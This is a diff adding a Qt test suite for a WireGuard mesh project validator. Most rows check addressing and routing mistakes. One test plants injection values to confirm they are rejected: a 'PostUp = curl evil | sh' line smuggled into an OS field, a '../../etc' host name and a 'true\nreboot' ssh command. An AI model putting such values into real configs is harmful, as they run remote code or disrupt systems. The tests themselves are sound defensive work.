@@ -1,0 +1,177 @@
+// Tests of the validator: each finding on a small project that has exactly that mistake.
+#include "projectfile.h"
+#include "testsupport.h"
+#include "validator.h"
+
+#include <QTest>
+
+namespace {
+
+/// Two LAN hosts, a gateway and a roaming phone: a valid project to break row by row.
+const char *const Base = R"(hosts:
+  lan1:
+    os: Linux
+    lan: {ip: '192.168.1.10'}
+    wg0: {ip: '10.9.0.10', ipv6: 'fd09::10'}
+    exclude_peers: [phone]
+  lan2:
+    os: FreeBSD
+    lan: {ip: '192.168.1.11'}
+    wg0: {ip: '10.9.0.11', ipv6: 'fd09::11'}
+    exclude_peers: [phone]
+  gw:
+    os: OpenBSD
+    internet: {ip: '198.51.100.7'}
+    wg0: {ip: '10.9.0.1', ipv6: 'fd09::1'}
+  phone:
+    os: Android
+    wg0: {ip: '10.9.0.100', ipv6: 'fd09::100'}
+    exclude_peers: [lan1, lan2]
+)";
+
+QStringList findingsOf(const QByteArray &yaml)
+{
+    ProjectFile::LoadError error;
+    const auto project = ProjectFile::parse(yaml, QStringLiteral("v.yaml"), &error);
+    if (!project)
+        return {QStringLiteral("load failed: ") + error.toString()};
+    QStringList result;
+    for (const Diagnostic &d : Validator::validate(*project))
+        result.append(d.toString());
+    return result;
+}
+
+} // namespace
+
+class tst_Validator : public QObject
+{
+    Q_OBJECT
+
+private slots:
+    void baseIsClean();
+    void findings_data();
+    void findings();
+    void editedProjectsAreChecked();
+    void exampleHasOnlyTrueWarnings();
+};
+
+void tst_Validator::baseIsClean()
+{
+    QCOMPARE(findingsOf(Base), QStringList());
+}
+
+void tst_Validator::findings_data()
+{
+    QTest::addColumn<QByteArray>("yaml");
+    QTest::addColumn<QStringList>("expected");
+    const QByteArray base(Base);
+    auto replace = [&](const char *from, const char *to) {
+        QByteArray copy = base;
+        const qsizetype at = copy.indexOf(from);
+        Q_ASSERT(at >= 0);
+        return copy.replace(at, qsizetype(qstrlen(from)), to);
+    };
+
+    QTest::newRow("duplicate mesh address")
+        << replace("ip: '10.9.0.11'", "ip: '10.9.0.10'")
+        << QStringList{"error: lan2: mesh address 10.9.0.10 is also used by lan1"};
+    QTest::newRow("duplicate IPv6 written differently")
+        << replace("ipv6: 'fd09::11'", "ipv6: 'fd09:0::10'")
+        << QStringList{"error: lan2: mesh address fd09:0::10 is also used by lan1"};
+    QTest::newRow("address outside the mesh subnet")
+        << base + "network: {ipv4: '10.9.0.0/26'}\n"
+        << QStringList{"error: phone: mesh address 10.9.0.100 is outside the mesh subnet 10.9.0.0/26"};
+    QTest::newRow("one-sided exclude_peers")
+        << replace("    exclude_peers: [lan1, lan2]", "    exclude_peers: [lan1]")
+        << QStringList{"error: lan2 -> phone: lan2 excludes phone, but phone still has lan2 as a peer: a broken half link. "
+                       "Add lan2 to phone's exclude_peers, or remove phone from lan2's",
+                       // what the half link does to the phone's side:
+                       "warning: phone: lan2 and gw get the same default route (0.0.0.0/0, ::/0); WireGuard uses only one of them "
+                       "and does not fail over",
+                       "error: phone -> lan2: neither side has an endpoint for the other, so the tunnel can never come up (both "
+                       "roam or sit behind NAT)"};
+    QTest::newRow("two roaming gateways share the default route")
+        << base + "  gw2:\n    internet: {ip: '203.0.113.9'}\n    wg0: {ip: '10.9.0.2'}\n"
+        << QStringList{"warning: phone: gw and gw2 get the same default route (0.0.0.0/0, ::/0); WireGuard uses only one of "
+                       "them and does not fail over. Use the per-gateway profiles (wg0-gw, wg0-gw2) to switch gateways by hand"};
+    QTest::newRow("same extra prefix on two peers")
+        << base + "links:\n  - hosts: [gw, lan1]\n    allowed_ips: {lan1: ['192.168.1.0/24']}\n"
+                  "  - hosts: [gw, lan2]\n    allowed_ips: {lan2: ['192.168.1.0/24']}\n"
+        << QStringList{"error: gw -> lan2: 192.168.1.0/24 is also in the AllowedIPs of lan1; WireGuard keeps it for only one peer "
+                       "and routes it there alone"};
+    QTest::newRow("nested prefixes are fine")
+        << base + "links:\n  - hosts: [gw, lan1]\n    allowed_ips: {lan1: ['192.168.0.0/16']}\n"
+                  "  - hosts: [gw, lan2]\n    allowed_ips: {lan2: ['192.168.1.0/24']}\n"
+        << QStringList{};
+    QTest::newRow("endpoint inside the peer's AllowedIPs")
+        << base + "links:\n  - hosts: [lan1, gw]\n    allowed_ips: {gw: ['198.51.100.0/24']}\n"
+        << QStringList{"error: lan1 -> gw: the endpoint 198.51.100.7 lies inside AllowedIPs 198.51.100.0/24 of the same peer: a routing "
+                       "loop. Reach the peer through an address outside the tunnel (e.g. its IPv6 address)"};
+    QTest::newRow("neither side has an endpoint")
+        << replace("    exclude_peers: [lan1, lan2]", "    exclude_peers: [lan2]").replace("lan: {ip: '192.168.1.10'}\n    wg0: {ip: '10.9.0.10', ipv6: 'fd09::10'}\n    exclude_peers: [phone]",
+                                                                                      "lan: {ip: '192.168.1.10'}\n    wg0: {ip: '10.9.0.10', ipv6: 'fd09::10'}")
+        << QStringList{"error: lan1 -> phone: neither side has an endpoint for the other, so the tunnel can never come up (both roam or sit "
+                       "behind NAT)",
+                       "warning: phone: lan1 and gw get the same default route (0.0.0.0/0, ::/0); WireGuard uses only one of them "
+                       "and does not fail over"};
+    QTest::newRow("behind NAT without keepalive")
+        << base + "links:\n  - hosts: [lan1, gw]\n    keepalive: 0\n"
+        << QStringList{"warning: lan1 -> gw: lan1 is behind NAT but sends no keepalive: gw can reach it only while lan1 is sending"};
+    QTest::newRow("gateway: false without a gateway")
+        << replace("    exclude_peers: [lan1, lan2]", "    exclude_peers: [lan1, lan2, gw]\n    gateway: false")
+        << QStringList{"warning: phone: has no peers: it excludes every other host",
+                       "warning: phone: has 'gateway: false' but no internet gateway among its peers to carry the mesh subnets",
+                       "error: phone -> gw: phone excludes gw, but gw still has phone as a peer: a broken half link. Add phone to gw's "
+                       "exclude_peers, or remove gw from phone's"};
+}
+
+void tst_Validator::findings()
+{
+    QFETCH(QByteArray, yaml);
+    QFETCH(QStringList, expected);
+    QStringList found = findingsOf(yaml);
+    found.sort();
+    expected.sort();
+    QCOMPARE(found, expected);
+}
+
+void tst_Validator::editedProjectsAreChecked()
+{
+    // What the loader refuses from a file, an edit in the GUI could still produce.
+    ProjectFile::LoadError error;
+    auto project = ProjectFile::parse(Base, QStringLiteral("v.yaml"), &error);
+    QVERIFY(project);
+    project->hosts[0].os = QStringLiteral("Linux\nPostUp = curl evil | sh");
+    project->hosts[1].name = QStringLiteral("../../etc");
+    project->hosts[2].meshInterface().ip = QStringLiteral("10.9.0.999");
+    project->hosts[3].ssh = SshSettings{};
+    project->hosts[3].ssh->reloadCmd = QStringLiteral("true\nreboot");
+    QStringList found;
+    for (const Diagnostic &d : Validator::validate(*project))
+        found.append(d.toString());
+    QCOMPARE(found, QStringList({
+                        "error: lan1: os holds a line break, control character or '#', which could add lines to a config",
+                        "error: ../../etc: the name may hold only letters, digits, '_', '.', '-'",
+                        "error: gw: wg0 has no valid IPv4 address ('10.9.0.999')",
+                        "error: phone: an ssh setting holds a line break or control character, which could add remote commands",
+                        "error: phone: exclude_peers names unknown host 'lan2'",
+                    }));
+}
+
+void tst_Validator::exampleHasOnlyTrueWarnings()
+{
+    ProjectFile::LoadError error;
+    const auto project = ProjectFile::load(TestSupport::sourcePath(QStringLiteral("resources/examples/homelab-mesh.yaml")), &error);
+    QVERIFY2(project, qPrintable(error.toString()));
+    const QList<Diagnostic> found = Validator::validate(*project);
+    QCOMPARE(found.size(), 2);
+    for (const Diagnostic &d : found) {
+        QVERIFY(!d.isError());
+        QVERIFY(d.message.contains(QLatin1String("per-gateway profiles (wg0-puffer, wg0-cloudgw)")));
+    }
+    QCOMPARE(found[0].host, QStringLiteral("laptop"));
+    QCOMPARE(found[1].host, QStringLiteral("phone"));
+}
+
+QTEST_APPLESS_MAIN(tst_Validator)
+#include "tst_validator.moc"
